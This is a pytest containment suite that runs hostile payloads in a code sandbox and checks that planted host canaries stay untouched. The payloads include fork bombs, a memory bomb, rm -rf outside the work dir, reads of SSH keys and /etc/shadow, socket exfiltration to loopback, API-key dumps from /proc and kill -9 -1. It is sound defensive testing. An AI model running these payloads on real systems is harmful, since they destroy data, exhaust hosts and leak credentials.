"""Hostile payloads run in the default sandbox: each must be contained, the host unchanged.

Every test here is one payload (marked ``containment``); conftest.py prints the tally as
``containment: N/M payloads contained``. The ``host`` fixture plants canaries outside the
work dir before each payload and checks after it that they are untouched and that no
process of the run (found by a unique marker or by the sandbox's host uid) is left.
"""

from __future__ import annotations

import hashlib
import os
import socket
import sqlite3
import sys
import time
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from code_test_support import leftover_processes, sandbox_processes

from convogen.code import CodeBlock, CodeResult, SandboxCodeExecutor

pytestmark = pytest.mark.containment

TIMEOUT = 3.0
MAX_PROCESSES = 24
MAX_OUTPUT = 16 * 1024
MEMORY_MB = 256
TMP_MB = 32
DISK_MB = 64


@dataclass
class Host:
    """Canaries planted on the host, outside the sandbox's work dir."""

    marker: str
    canary_dir: Path
    ssh_key: Path
    secret: str
    cache_db: Path
    venv_canary: Path
    fingerprint: dict[str, str]


def fingerprint(*roots: Path) -> dict[str, str]:
    """sha256 of every file below roots (and the listing itself)."""
    result: dict[str, str] = {}
    for root in roots:
        for path in sorted(root.rglob("*")) if root.is_dir() else [root]:
            if path.is_file():
                result[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest()
            else:
                result[str(path)] = "dir"
    return result


@pytest.fixture
def jail(require_sandbox: None, work_dir: Path) -> Iterator[SandboxCodeExecutor]:
    """The default sandbox with tight limits."""
    executor = SandboxCodeExecutor(
        timeout=TIMEOUT,
        work_dir=work_dir,
        memory_mb=MEMORY_MB,
        max_processes=MAX_PROCESSES,
        max_file_mb=8,
        max_output_bytes=MAX_OUTPUT,
        tmp_mb=TMP_MB,
        disk_mb=DISK_MB,
    )
    yield executor
    executor.close()


@pytest.fixture
def host(
    jail: SandboxCodeExecutor, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> Iterator[Host]:
    """Plant canaries, then check after the payload that the host is unchanged."""
    marker = f"convogen-payload-{uuid.uuid4().hex}"
    canary_dir = tmp_path / "outside" / "precious"
    canary_dir.mkdir(parents=True)
    (canary_dir / "keep.txt").write_text(f"keep me {marker}")
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    secret = f"-----BEGIN OPENSSH PRIVATE KEY----- {uuid.uuid4().hex}"
    ssh_key = home / ".ssh" / "id_rsa"
    ssh_key.write_text(secret)
    monkeypatch.setenv("HOME", str(home))  # the host's idea of ~ now holds the fake key
    cache_db = tmp_path / "cache" / "cache.db"
    cache_db.parent.mkdir()
    with sqlite3.connect(cache_db) as db:
        db.execute("CREATE TABLE cache (key TEXT PRIMARY KEY, value TEXT)")
        db.execute("INSERT INTO cache VALUES ('prompt', 'cached answer')")
    db.close()
    venv_canary = Path(sys.prefix) / f".{marker}"
    venv_canary.write_text("inside the python installation")
    before = fingerprint(canary_dir.parent, home, cache_db.parent, venv_canary)
    planted = Host(marker, canary_dir, ssh_key, secret, cache_db, venv_canary, before)
    try:
        yield planted
        assert fingerprint(canary_dir.parent, home, cache_db.parent, venv_canary) == before
        assert leftover_processes(marker) == []
        assert sandbox_processes(jail) == []
    finally:
        venv_canary.unlink(missing_ok=True)


def run(jail: SandboxCodeExecutor, code: str, language: str = "python") -> tuple[CodeResult, float]:
    """Run one block and time it."""
    started = time.monotonic()
    result = jail.execute_code_blocks([CodeBlock(code, language)])
    return result, time.monotonic() - started


def test_python_fork_bomb(jail: SandboxCodeExecutor, host: Host) -> None:
    code = "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass"
    result, elapsed = run(jail, f"# filename: {host.marker}.py\n{code}")
    assert result.exit_code == 124 and elapsed < TIMEOUT + 2


def test_fork_count_is_bounded(jail: SandboxCodeExecutor, host: Host) -> None:
    code = (
        "import os, time\nforks = 0\ntry:\n    while forks < 1000:\n"
        "        if os.fork() == 0:\n            time.sleep(10)\n            os._exit(0)\n"
        "        forks += 1\nexcept OSError as exc:\n    print('stopped', forks, exc.errno)\n"
    )
    result, _ = run(jail, f"# filename: {host.marker}.py\n{code}")
    assert result.output.startswith("stopped"), result.output
    assert int(result.output.split()[1]) < MAX_PROCESSES


def test_shell_fork_bomb(jail: SandboxCodeExecutor, host: Host) -> None:
    code = f"# {host.marker}\nbomb() {{ bomb | bomb & }}; bomb\nsleep 1\necho bomb-survived"
    result, elapsed = run(jail, code, "sh")
    assert elapsed < TIMEOUT + 2
    assert "Cannot fork" in result.output  # the process limit was hit, not the machine's


def test_memory_bomb(jail: SandboxCodeExecutor, host: Host) -> None:
    code = "chunks = []\nwhile True:\n    chunks.append(bytearray(50 * 1024 * 1024))"
    result, elapsed = run(jail, code)
    assert result.exit_code == 1 and "MemoryError" in result.output
    assert elapsed < TIMEOUT


def test_infinite_loop_times_out(jail: SandboxCodeExecutor, host: Host) -> None:
    result, elapsed = run(jail, "while True:\n    pass")
    assert result.exit_code == 124 and "Timeout" in result.output
    assert TIMEOUT <= elapsed < TIMEOUT + 2


def test_rm_rf_outside_the_work_dir(jail: SandboxCodeExecutor, host: Host) -> None:
    code = (
        f"rm -rf {host.canary_dir.parent} {host.venv_canary} {host.ssh_key.parent}"
        " >/dev/null 2>&1\n"
        f"rm -rf /tmp/* ~/.. >/dev/null 2>&1\n"
        f"ls {host.canary_dir} 2>&1 || echo canary-invisible"
    )
    result, _ = run(jail, code, "sh")
    assert "canary-invisible" in result.output


def test_read_ssh_private_key(jail: SandboxCodeExecutor, host: Host) -> None:
    code = (
        "import os\n"
        f"for path in ['~/.ssh/id_rsa', {str(host.ssh_key)!r}, '/root/.ssh/id_rsa']:\n"
        "    try:\n        print(open(os.path.expanduser(path)).read())\n"
        "    except OSError as exc:\n        print('blocked', type(exc).__name__)\n"
    )
    result, _ = run(jail, code)
    assert host.secret not in result.output
    assert result.output.count("blocked") == 3


def test_read_etc_shadow(jail: SandboxCodeExecutor, host: Host) -> None:
    code = (
        "for path in ['/etc/shadow', '/etc/gshadow', '/etc/sudoers']:\n"
        "    try:\n        print(open(path).read())\n"
        "    except OSError as exc:\n        print('blocked', type(exc).__name__)\n"
    )
    result, _ = run(jail, code)
    assert result.output.count("blocked") == 3
    try:
        shadow = Path("/etc/shadow").read_text()
    except OSError:
        return  # not root: the host file is unreadable to us too
    assert all(line not in result.output for line in shadow.splitlines() if line)


def test_exfiltrate_to_host_loopback(jail: SandboxCodeExecutor, host: Host) -> None:
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen(5)
        listener.setblocking(False)
        port = listener.getsockname()[1]
        code = (
            "import socket\ntry:\n"
            f"    s = socket.create_connection(('127.0.0.1', {port}), timeout=2)\n"
            "    s.sendall(b'stolen')\n    print('SENT')\n"
            "except OSError as exc:\n    print('blocked', type(exc).__name__)\n"
        )
        result, elapsed = run(jail, code)
        with pytest.raises(BlockingIOError):
            listener.accept()
    assert "SENT" not in result.output and "blocked" in result.output
    assert elapsed < 2


def test_no_route_to_the_outside(jail: SandboxCodeExecutor, host: Host) -> None:
    code = (
        "import socket\n"
        "print('ifaces', [name for _, name in socket.if_nameindex()])\n"
        "print('routes', open('/proc/net/route').read().splitlines()[1:])\n"
        "try:\n    socket.getaddrinfo('pypi.org', 443)\n    print('RESOLVED')\n"
        "except OSError as exc:\n    print('dns blocked', type(exc).__name__)\n"
    )
    result, elapsed = run(jail, code)
    assert "ifaces ['lo']" in result.output and "routes []" in result.output
    assert "dns blocked" in result.output and elapsed < 2


def test_setsid_orphan_is_killed(jail: SandboxCodeExecutor, host: Host) -> None:
    code = (
        f"setsid python3 -c 'import time; time.sleep(300)' {host.marker} &\n"
        f"nohup sh -c 'sleep 300; echo {host.marker}' >/dev/null 2>&1 &\n"
        "echo launched"
    )
    result, elapsed = run(jail, code, "sh")
    assert result.exit_code == 0 and "launched" in result.output and elapsed < TIMEOUT


def test_double_fork_daemon_is_killed(jail: SandboxCodeExecutor, host: Host) -> None:
    code = (
        "import os, sys, time\n"
        "if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
        "        argv = [sys.executable, '-c', 'import time; time.sleep(300)']\n"
        f"        os.execvp(sys.executable, argv + [{host.marker!r}])\n"
        "    os._exit(0)\n"
        "time.sleep(0.2)\nprint('daemonized')\n"
    )
    result, _ = run(jail, code)
    assert result.exit_code == 0 and "daemonized" in result.output


def test_huge_output_is_capped(jail: SandboxCodeExecutor, host: Host) -> None:
    result, elapsed = run(
        jail, "import sys\nfor _ in range(2000):\n    sys.stdout.write('z' * 25000)"
    )
    assert result.exit_code == 0 and elapsed < TIMEOUT
    assert "output truncated" in result.output
    assert len(result.output) < MAX_OUTPUT + 200


def test_overwrite_response_cache(jail: SandboxCodeExecutor, host: Host) -> None:
    code = (
        "import sqlite3\ntry:\n"
        f"    db = sqlite3.connect({str(host.cache_db)!r})\n"
        "    db.execute(\"UPDATE cache SET value = 'poisoned'\")\n"
        "    db.commit()\n    print('POISONED')\n"
        "except sqlite3.Error as exc:\n    print('blocked', exc)\n"
    )
    result, _ = run(jail, code)
    assert "POISONED" not in result.output and "blocked" in result.output
    with sqlite3.connect(host.cache_db) as db:
        assert db.execute("SELECT value FROM cache").fetchall() == [("cached answer",)]
    db.close()


def test_api_keys_are_scrubbed(
    jail: SandboxCodeExecutor, host: Host, monkeypatch: pytest.MonkeyPatch
) -> None:
    values = {
        "OPENAI_API_KEY": f"sk-{uuid.uuid4().hex}",
        "GITHUB_TOKEN": f"ghp_{uuid.uuid4().hex}",
        "DB_PASSWORD": uuid.uuid4().hex,
        "AWS_SECRET_ACCESS_KEY": uuid.uuid4().hex,
        "HARMLESS_LOOKING": uuid.uuid4().hex,
    }
    for name, value in values.items():
        monkeypatch.setenv(name, value)
    code = (
        "import os\nprint(dict(os.environ))\n"
        "for pid in [p for p in os.listdir('/proc') if p.isdigit()]:\n"
        "    try:\n        print(open(f'/proc/{pid}/environ').read())\n"
        "    except OSError:\n        pass\n"
    )
    result, _ = run(jail, code)
    assert result.exit_code == 0
    assert not [name for name, value in values.items() if value in result.output]


def test_symlink_cannot_redirect_host_writes(jail: SandboxCodeExecutor, host: Host) -> None:
    target = host.canary_dir / "keep.txt"
    plant = (
        f"import os\nos.symlink({str(target)!r}, 'victim.py')\nos.symlink('/etc/shadow', 'shadow')"
    )
    first, _ = run(jail, plant)
    assert first.exit_code == 0 and first.files == []  # symlinks are never reported as files
    second, _ = run(jail, "# filename: victim.py\nprint('rewritten safely')")
    assert second.exit_code == 0 and "rewritten safely" in second.output
    assert not (jail.work_dir / "victim.py").is_symlink()


def test_fifo_cannot_block_host_writes(jail: SandboxCodeExecutor, host: Host) -> None:
    first, _ = run(jail, "import os\nos.mkfifo('trap.py')\nos.mkdir('dir_trap.py')")
    assert first.exit_code == 0
    started = time.monotonic()
    second, _ = run(jail, "# filename: trap.py\nprint('not blocked')")
    assert second.output == "not blocked\n" and time.monotonic() - started < TIMEOUT
    third, _ = run(jail, "# filename: dir_trap.py\nprint('never')")
    assert third.exit_code == 1 and "is a directory" in third.output


def test_disk_filling_is_bounded(jail: SandboxCodeExecutor, host: Host) -> None:
    code = (
        "try:\n    with open('big.bin', 'wb') as f:\n"
        "        for _ in range(100):\n            f.write(b'0' * 1024 * 1024)\n"
        "except OSError as exc:\n    print('stopped', exc.errno)\n"
    )
    result, _ = run(jail, code)
    assert "stopped" in result.output or result.exit_code != 0
    assert (jail.work_dir / "big.bin").stat().st_size <= 8 * 1024 * 1024


def test_kill_everything_spares_the_host(jail: SandboxCodeExecutor, host: Host) -> None:
    sentinel = os.getpid()
    result, _ = run(jail, f"kill -9 -1 2>&1; kill -9 {sentinel} 2>&1; echo survived-inside", "sh")
    assert "survived-inside" in result.output or result.exit_code != 0
    os.kill(sentinel, 0)  # this test process is still alive
